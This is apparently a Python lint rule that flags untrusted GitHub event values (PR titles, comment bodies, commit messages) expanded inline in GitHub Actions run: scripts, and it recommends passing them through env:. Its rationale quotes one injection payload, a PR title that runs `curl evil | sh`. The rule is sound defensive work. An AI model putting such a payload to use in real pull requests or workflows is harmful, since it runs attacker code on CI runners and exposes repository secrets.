"""Checks that untrusted `${{ github.event.* }}` values are never expanded inline in `run:` scripts."""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from typing import Any

from platctl.doctor.model import Finding, Level, RuleMeta, Severity
from platctl.doctor.repo import Repo
from platctl.doctor.rules.ci._workflows import iter_steps, iter_workflows

META = RuleMeta(
    code="CI008",
    slug="script-injection",
    title="Untrusted event values go through env:, not inline in run:",
    severity=Severity.ERROR,
    level=Level.BRONZE,
    rationale=(
        "`${{ }}` is expanded before the shell runs, so a pull request title such as "
        "`\"; curl evil | sh #` becomes part of your script. Pass the value through `env:` and quote it."
    ),
    example='- run: echo "${{ github.event.pull_request.title }}"',
    fix_example='- env:\n    TITLE: ${{ github.event.pull_request.title }}\n  run: echo "$TITLE"',
)

# Bounded gaps ({0,200}), never ``.*``: an unbounded run searched from every start is quadratic.
_UNTRUSTED = re.compile(
    r"github\.(head_ref|event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label)|head\.repo\.default_branch)"
    r"|comment\.body|review\.body|review_comment\.body|pages\b[^\n]{0,200}?\.page_name"
    r"|commits\b[^\n]{0,200}?\.(message|author\.(email|name))"
    r"|head_commit\.(message|author\.(email|name))|discussion\.(title|body)|workflow_run\.head_branch))"
)


def check(repo: Repo, options: Mapping[str, Any]) -> Iterator[Finding]:
    for workflow in iter_workflows(repo):
        for _, job in workflow.jobs():
            for step in iter_steps(job):
                node, key = _script_of(step)
                script = node.get(key) if node is not None else None
                if not isinstance(script, str):
                    continue
                for expression in expressions(script):
                    match = _UNTRUSTED.search(expression)
                    if match:
                        yield META.finding(f"{key}: expands untrusted {match.group(0)} inline; pass it through env:",
                                           workflow.path, workflow.line(node, key))


def expressions(script: str) -> Iterator[str]:
    """The text inside each ``${{ ... }}``, found with str.find: linear even with thousands of unclosed ``${{``."""
    start = script.find("${{")
    while start >= 0:
        end = script.find("}}", start + 3)
        if end < 0:
            return
        yield script[start + 3:end]
        start = script.find("${{", end + 2)


def _script_of(step: dict[str, Any]) -> tuple[dict[str, Any] | None, str]:
    """The step's shell script, or the JavaScript of actions/github-script."""
    if "run" in step:
        return step, "run"
    inputs = step.get("with")
    if str(step.get("uses", "")).startswith("actions/github-script") and isinstance(inputs, dict):
        return inputs, "script"
    return None, "run"
